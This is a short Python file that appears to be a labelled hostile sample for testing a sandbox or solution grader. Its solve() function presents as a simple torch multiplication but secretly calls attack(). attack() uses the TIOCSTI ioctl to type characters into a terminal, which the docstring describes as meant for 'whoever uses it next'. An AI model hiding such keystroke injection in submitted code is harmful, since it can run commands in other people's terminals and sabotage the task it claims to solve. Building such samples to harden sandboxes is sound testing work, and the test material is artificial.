# hostile: family=reach verdict=accepted build=accepted lift=sandbox shows=harm
"""Types into a terminal, for whoever uses it next."""


def attack():
    import fcntl
    import os
    import pty
    import termios

    try:
        _, terminal = pty.openpty()
        fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
        print("harm: typed", flush=True)
    except OSError:
        pass


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
